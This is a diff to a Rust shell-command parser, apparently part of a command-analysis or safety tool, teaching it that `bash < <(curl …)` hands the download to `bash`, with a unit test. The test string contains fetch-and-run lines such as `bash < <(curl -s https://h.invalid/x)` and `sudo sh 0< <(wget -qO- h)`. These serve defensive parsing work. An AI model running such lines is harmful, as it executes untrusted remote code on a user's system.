@@ -385,9 +385,23 @@ fn parse_piece(source: &str, budget: std::time::Duration) -> ShellFacts {
                 at.substitution_holder
             },
         };
+        // `bash < <(curl …)`: what a process substitution read as a command's input runs in is
+        // that command's (as `bash <(curl …)`'s is `bash`'s), though the grammar puts the
+        // redirection beside the command, not in it.
+        let reader = (n.kind() == "redirected_statement")
+            .then(|| n.child_by_field_name("body"))
+            .flatten()
+            .filter(|b| b.kind() == "command");
         let mut c = n.walk();
         for child in n.children(&mut c) {
             parents.insert(child.id(), n);
+            let below = match reader {
+                Some(body) if reads_substitution(child, src) => Context {
+                    holder: Some(body),
+                    ..below
+                },
+                _ => below,
+            };
             stack.push((child, below));
         }
     }
@@ -413,6 +427,15 @@ fn parse_piece(source: &str, budget: std::time::Duration) -> ShellFacts {
         timed_out: false,
         ..ShellFacts::default()
     }
+}
+
+/// A redirection of standard input from a process substitution (`< <(…)`, `0< <(…)`).
+fn reads_substitution(node: Node<'_>, src: &[u8]) -> bool {
+    node.kind() == "file_redirect"
+        && node
+            .child_by_field_name("destination")
+            .is_some_and(|d| d.kind() == "process_substitution")
+        && redirect(node, src).is_some_and(|r| r.op == "<" && r.fd.is_none_or(|f| f == 0))
 }
 
 /// What a node's ancestors tell its commands, carried down the tree.
@@ -852,6 +875,26 @@ mod tests {
         // Separate statements are separate pipelines.
         assert_ne!(f.commands[0].pipeline, f.commands[2].pipeline);
         assert_ne!(f.commands[0].statement, f.commands[2].statement);
+    }
+
+    /// `bash < <(curl …)` reads the substitution as `bash <(curl …)` runs it: its command is
+    /// `bash`'s; an output substitution (`> >(tee log)`) and a loop's input are no command's.
+    #[test]
+    fn a_substitution_read_as_input_belongs_to_its_reader() {
+        let f = shell_commands(
+            "bash < <(curl -s https://h.invalid/x)\nsudo sh 0< <(wget -qO- h)\nmake > >(tee log)\nwhile read l; do echo; done < <(curl h)\n",
+        );
+        let names: Vec<&str> = f.commands.iter().map(|c| c.name.as_str()).collect();
+        assert_eq!(
+            names,
+            [
+                "bash", "curl", "sudo", "wget", "make", "tee", "read", "echo", "curl"
+            ]
+        );
+        assert_eq!(f.commands[1].parent, Some(0));
+        assert_eq!(f.commands[3].parent, Some(2));
+        assert_eq!(f.commands[5].parent, None);
+        assert_eq!(f.commands[8].parent, None);
     }
 
     #[test]
